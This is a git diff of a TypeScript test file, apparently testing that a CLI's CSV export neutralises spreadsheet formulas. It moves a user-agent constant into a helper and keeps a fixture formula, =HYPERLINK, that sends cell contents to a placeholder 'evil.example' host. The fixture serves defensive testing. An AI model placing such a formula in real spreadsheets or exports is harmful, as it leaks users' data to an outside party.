@@ -3,9 +3,8 @@ import { parse } from 'csv-parse/sync';
 import { runCli } from '../support/run-cli.js';
 import { startTestServer, type TestServer } from '../support/server.js';
 import { describeEachBackend } from '../support/services.js';
+import { PHONE_UA } from '../support/http.js';
 
-const PHONE_UA =
-  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1';
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 
 /** No cell that a spreadsheet reads as a formula: none starts with = + - @ tab or CR. */
